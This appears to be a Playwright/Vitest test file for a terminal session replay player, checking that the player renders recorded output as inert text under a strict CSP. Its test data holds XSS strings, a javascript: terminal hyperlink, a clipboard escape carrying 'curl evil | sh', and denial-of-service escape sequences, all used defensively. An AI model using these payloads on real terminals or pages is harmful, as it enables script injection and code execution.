import { existsSync, readFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, launchBrowser } from '../../../../../test/support/browser.ts';

/**
 * The replay player in Debian's headless Chromium, against a tiny server that serves the
 * page under the web UI's CSP, the player, the xterm.js headless module and recordings
 * whose content (and, for live sessions, growth and status) each test controls.
 */
const HERE = dirname(fileURLToPath(import.meta.url));
const XTERM = join(dirname(createRequire(import.meta.url).resolve('@xterm/headless')), 'xterm-headless.mjs');
const CSP = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'";

/** Runs before the player (a classic script in <head>): records CSP violations for the test. */
const HOOKS_JS = `window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__cspViolations.push({ directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample });
});
`;

interface Cast {
  /** The JSON header line; any string, so tests can send a broken one. */
  header: string;
  /** Event lines per chunk; chunk numbers start at 1. */
  chunks: string[][];
  status: 'live' | 'ended' | 'interrupted';
  httpStatus?: number;
  /** How many `?after=` requests the player made. */
  polls: number;
}

const casts = new Map<string, Cast>();

function cast(name: string, events: unknown[][], options: { status?: Cast['status']; header?: string; extraLines?: string[]; httpStatus?: number } = {}): Cast {
  const entry: Cast = {
    header: options.header ?? JSON.stringify({ version: 2, width: 80, height: 24, timestamp: 1_700_000_000 }),
    chunks: [[...events.map((e) => JSON.stringify(e)), ...(options.extraLines ?? [])]],
    status: options.status ?? 'ended',
    polls: 0,
    ...(options.httpStatus === undefined ? {} : { httpStatus: options.httpStatus }),
  };
  casts.set(name, entry);
  return entry;
}

function page(name: string, live: boolean, pty: boolean): string {
  return `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>player test</title><script src="/hooks.js"></script></head>
<body>
<div data-access-player data-cast-url="/ui/sessions/${name}/cast" data-xterm-url="/ui/assets/vendor/xterm-headless.mjs" data-live="${live}" data-pty="${pty}" data-cols="80" data-rows="24"></div>
<script type="module" src="/ui/assets/player.js"></script>
</body></html>`;
}

function send(res: ServerResponse, status: number, type: string, body: string, headers: Record<string, string> = {}): void {
  res.writeHead(status, { 'content-type': type, 'content-security-policy': CSP, 'x-content-type-options': 'nosniff', 'cache-control': 'no-store', ...headers });
  res.end(body);
}

function handle(req: IncomingMessage, res: ServerResponse): void {
  const url = new URL(req.url ?? '/', 'http://127.0.0.1');
  const js = 'text/javascript; charset=utf-8';
  const pageMatch = /^\/page\/([\w-]+)$/.exec(url.pathname);
  const castMatch = /^\/ui\/sessions\/([\w-]+)\/cast$/.exec(url.pathname);
  if (pageMatch) return send(res, 200, 'text/html; charset=utf-8', page(pageMatch[1]!, url.searchParams.get('live') === 'true', url.searchParams.get('pty') !== 'false'));
  if (url.pathname === '/hooks.js') return send(res, 200, js, HOOKS_JS);
  if (url.pathname === '/ui/assets/player.js') return send(res, 200, js, readFileSync(join(HERE, 'player.js'), 'utf8'));
  if (url.pathname === '/ui/assets/player.css') return send(res, 200, 'text/css; charset=utf-8', readFileSync(join(HERE, 'player.css'), 'utf8'));
  if (url.pathname === '/ui/assets/vendor/xterm-headless.mjs') return send(res, 200, js, readFileSync(XTERM, 'utf8'));
  const entry = castMatch ? casts.get(castMatch[1]!) : undefined;
  if (!entry) return send(res, 404, 'text/plain', 'not found');
  if (entry.httpStatus) return send(res, entry.httpStatus, 'text/plain', 'no');
  const after = url.searchParams.get('after');
  if (after !== null) entry.polls++;
  const chunks = after === null ? entry.chunks : entry.chunks.slice(Number(after));
  const lines = chunks.flat();
  const body = (after === null ? [entry.header, ...lines] : lines).map((l) => `${l}\n`).join('');
  send(res, 200, 'application/x-asciicast', body, { 'x-access-chunk-seq': String(entry.chunks.length), 'x-access-session-status': entry.status });
}

const ESC = '\u001b';
const screenText = (p: Page) => p.locator('.access-screen').textContent().then((t) => t ?? '');
/** Waits through Playwright's own selector engine: the page's CSP forbids string predicates (eval). */
const screenShows = (p: Page, text: string, timeout?: number) => p.locator('.access-screen', { hasText: text }).waitFor(timeout === undefined ? {} : { timeout });
const HAS_CHROMIUM = existsSync(CHROMIUM);

describe.skipIf(!HAS_CHROMIUM)(HAS_CHROMIUM ? 'session player in headless Chromium' : `session player: skipped, no Chromium at ${CHROMIUM} (set ACCESS_TEST_CHROMIUM)`, () => {
  let server: Server;
  let base: string;
  let browser: Browser;
  let context: BrowserContext | undefined;
  let pageErrors: string[] = [];

  beforeAll(async () => {
    server = createServer(handle);
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    browser = await launchBrowser();
  });

  afterEach(async () => {
    await context?.close();
    context = undefined;
  });

  afterAll(async () => {
    await browser?.close();
    server?.closeAllConnections();
    await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  });

  async function open(name: string, live = false, pty = true): Promise<Page> {
    context = await browser.newContext();
    const p = await context.newPage();
    p.setDefaultTimeout(10_000);
    pageErrors = [];
    p.on('pageerror', (error) => pageErrors.push(String(error)));
    await p.goto(`${base}/page/${name}?live=${live}&pty=${pty}`);
    await p.waitForSelector('[data-access-player]:not([data-state="loading"])');
    return p;
  }

  const state = (p: Page) => p.locator('[data-access-player]').getAttribute('data-state');

  it('replays hostile output as text: no markup, no script, no inline-style violations', async () => {
    cast(
      'hostile',
      [
        [0, 'o', '<script>window.pwned=1</script>\r\n'],
        [0, 'o', '<img src=x onerror="window.pwned=2">\r\n'],
        [0, 'o', `${ESC}]8;;javascript:window.pwned=3${ESC}\\link text${ESC}]8;;${ESC}\\\r\n`],
        [0, 'o', `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\u0007`],
        [0, 'o', `${ESC}]0;<b>pwned title</b>\u0007`],
        [0, 'o', `${ESC}[31mDANGER${ESC}[0m plain ${ESC}[38;5;196mcolour256${ESC}[0m ${ESC}[38;2;1;2;3mtruecolour${ESC}[0m\r\n`],
      ],
      { extraLines: ['not json', '[1, "o"]', '{"t": 1}', '[-1, "o", "negative time"]'] },
    );
    const p = await open('hostile');
    await screenShows(p, 'truecolour');

    const text = await screenText(p);
    expect(text).toContain('<script>window.pwned=1</script>');
    expect(text).toContain('<img src=x onerror="window.pwned=2">');
    expect(text).toContain('link text');
    expect(await p.evaluate('typeof window.pwned')).toBe('undefined');
    expect(await p.locator('[data-access-player] :is(script, img, a, style, link, iframe, object)').count()).toBe(0);
    expect(await p.title()).toBe('player test');
    expect(await p.locator('.access-row > span', { hasText: /^DANGER$/ }).getAttribute('class')).toBe('fg-1');
    expect(await p.locator('.access-row > span', { hasText: /^colour256$/ }).getAttribute('style')).toContain('color: rgb(255, 0, 0)');
    expect(await p.locator('.access-row > span', { hasText: /^truecolour$/ }).getAttribute('style')).toContain('color: rgb(1, 2, 3)');
    expect(await p.locator('.access-note').textContent()).toContain('4 lines skipped');
    // player.css arrived (the player links it itself, allowed by style-src 'self').
    expect(await p.evaluate("getComputedStyle(document.querySelector('.access-screen .fg-1')).color")).toBe('rgb(205, 49, 49)');
    expect(await state(p)).toBe('ended');

    // Violation events are queued tasks: let any pending ones arrive before asserting none.
    await p.waitForTimeout(200);
    expect(await p.evaluate('window.__cspViolations')).toEqual([]);
    expect(pageErrors).toEqual([]);
    // The listener is live: an inline style attribute set from a string is reported.
    await p.evaluate("document.body.setAttribute('style', 'color: red')");
    await expect.poll(() => p.evaluate('window.__cspViolations.length'), { timeout: 5_000 }).toBeGreaterThan(0);
  });

  it('starts each line of a session without a terminal at the left edge, as a terminal would have', async () => {
    cast('nopty', [
      [0, 'o', 'first\nsecond\n'],
      [0.1, 'e', 'an error\n'],
    ]);
    const p = await open('nopty', false, false);
    const seek = p.getByRole('slider', { name: 'Seek' });
    await seek.focus();
    await p.keyboard.press('End');
    await screenShows(p, 'an error');
    const rows = (await p.locator('.access-row').allTextContents()).map((r) => r.trimEnd());
    expect(rows.slice(0, 3)).toEqual(['first', 'second', 'an error']);
  });

  it('bounds the counts of escape sequences that would take the emulator minutes, even split across events', async () => {
    cast('counts', [
      [0, 'o', 'top\r\n'],
      // Scroll, insert and delete lines, back-tab and repeat, each asking for 2^31 - 1 steps.
      [0.1, 'o', '\x1b[2147483647S\x1b[2147483647L\x1b[2147483647M\x1b[2147483647Z'],
      [0.2, 'o', 'x\x1b[2147483647b\r\n\x1b[21474'],
      [0.3, 'r', '100x30'],
      [0.4, 'o', '83647Tdone\r\n'],
    ]);
    const started = Date.now();
    const p = await open('counts');
    const seek = p.getByRole('slider', { name: 'Seek' });
    await seek.focus();
    await p.keyboard.press('End');
    await screenShows(p, 'done');
    // Unbounded, the first of these alone keeps xterm busy for minutes.
    expect(Date.now() - started).toBeLessThan(15_000);
    // The repeat made at most one line's width of x.
    const rows = await p.locator('.access-row').allTextContents();
    expect(rows.join('').split('x').length - 1).toBeLessThanOrEqual(500 + 1);
  });

  it('plays, pauses and seeks; seeking back replays from the first frame', async () => {
    cast(
      'replay',
      [
        [0, 'o', 'frame one\r\n'],
        [0.4, 'i', 'SECRET-INPUT'],
        [0.5, 'o', `${ESC}[2J${ESC}[Hsecond frame`],
        [0.6, 'r', '60x12'],
        [0.7, 'm', 'checkpoint'],
        [1.0, 'o', `${ESC}[2J${ESC}[Hthird frame`],
        [121.0, 'o', `${ESC}[2J${ESC}[Hfinal screen\r\n`],
      ],
      { header: JSON.stringify({ version: 2, width: 40, height: 10 }) },
    );
    const p = await open('replay');
    expect(await state(p)).toBe('paused');
    await screenShows(p, 'frame one');
    expect(await p.locator('.access-time').textContent()).toBe('00:00 / 02:01');
    expect(await p.locator('.access-row').count()).toBe(10);
    expect(await p.locator('.access-screen .cursor').count()).toBe(1);

    const seek = p.getByRole('slider', { name: 'Seek' });
    await seek.focus();
    await p.keyboard.press('End');
    await screenShows(p, 'final screen');
    expect(await state(p)).toBe('ended');
    expect(await p.locator('[data-access-player]').getAttribute('data-time')).toBe('121.0');
    expect(await p.locator('.access-row').count()).toBe(12);
    expect(await screenText(p)).not.toContain('frame one');

    await p.keyboard.press('Home');
    await screenShows(p, 'frame one');
    expect(await state(p)).toBe('paused');
    expect(await p.locator('.access-row').count()).toBe(10);
    expect(await screenText(p)).not.toContain('final screen');

    const play = p.locator('.access-play');
    await p.getByRole('button', { name: 'Play' }).click();
    expect(await state(p)).toBe('playing');
    await screenShows(p, 'second frame');
    await p.getByRole('button', { name: 'Pause' }).click();
    expect(await state(p)).toBe('paused');
    const pausedAt = Number(await p.locator('[data-access-player]').getAttribute('data-time'));
    expect(pausedAt).toBeGreaterThan(0);
    await p.waitForTimeout(300);
    expect(Number(await p.locator('[data-access-player]').getAttribute('data-time'))).toBe(pausedAt);

    // 8× with idle skipping: the 120 s pause plays as 2 s of recording, so this ends in well
    // under a second instead of 15 s.
    await p.getByRole('combobox', { name: 'Playback speed' }).selectOption('8');
    await play.click();
    await p.waitForSelector('[data-access-player][data-state="ended"]', { timeout: 4_000 });
    // The last frame is drawn on the next animation frame after the state changes.
    await screenShows(p, 'final screen');
    const text = await screenText(p);
    expect(text).toContain('final screen');
    expect(text).not.toContain('SECRET-INPUT');
    expect(pageErrors).toEqual([]);
  });

  it('follows a live session within a second and stops when it ends', async () => {
    const live = cast('live', [[0, 'o', 'hello live\r\n']], { status: 'live' });
    const p = await open('live', true);
    expect(await state(p)).toBe('live');
    await screenShows(p, 'hello live');
    expect(await p.locator('.access-status').textContent()).toBe('Live');

    live.chunks.push([JSON.stringify([1.5, 'o', 'second chunk arrived\r\n'])]);
    await screenShows(p, 'second chunk arrived', 1_000);

    // Paused, new output waits; "Go live" catches up.
    await p.getByRole('button', { name: 'Pause' }).click();
    expect(await state(p)).toBe('paused');
    live.chunks.push([JSON.stringify([2.5, 'o', 'while paused\r\n']), 'garbage line']);
    await p.locator('.access-note', { hasText: '1 line skipped' }).waitFor();
    expect(await screenText(p)).not.toContain('while paused');
    await p.getByRole('button', { name: 'Go live' }).click();
    expect(await state(p)).toBe('live');
    await screenShows(p, 'while paused');

    live.chunks.push([JSON.stringify([3.0, 'o', 'session over\r\n'])]);
    live.status = 'ended';
    await p.waitForSelector('[data-access-player][data-state="ended"]', { timeout: 2_000 });
    expect(await screenText(p)).toContain('session over');
    expect(await p.locator('.access-status').textContent()).toBe('Ended');
    const polls = live.polls;
    await p.waitForTimeout(1_200);
    expect(live.polls).toBe(polls);
    expect(pageErrors).toEqual([]);
  });

  it('shows a clear message when the recording is forbidden, missing or unreadable', async () => {
    cast('forbidden', [], { httpStatus: 403 });
    cast('broken', [[0, 'o', 'x']], { header: '<html>not a cast</html>' });
    const cases: Array<[string, string]> = [
      ['forbidden', 'not allowed'],
      ['missing', 'not found'],
      ['broken', 'could not be read'],
    ];
    for (const [name, message] of cases) {
      const p = await open(name);
      expect(await state(p)).toBe('error');
      expect(await p.getByRole('alert').textContent()).toContain(message);
      expect(pageErrors).toEqual([]);
      await context?.close();
      context = undefined;
    }
  });
});
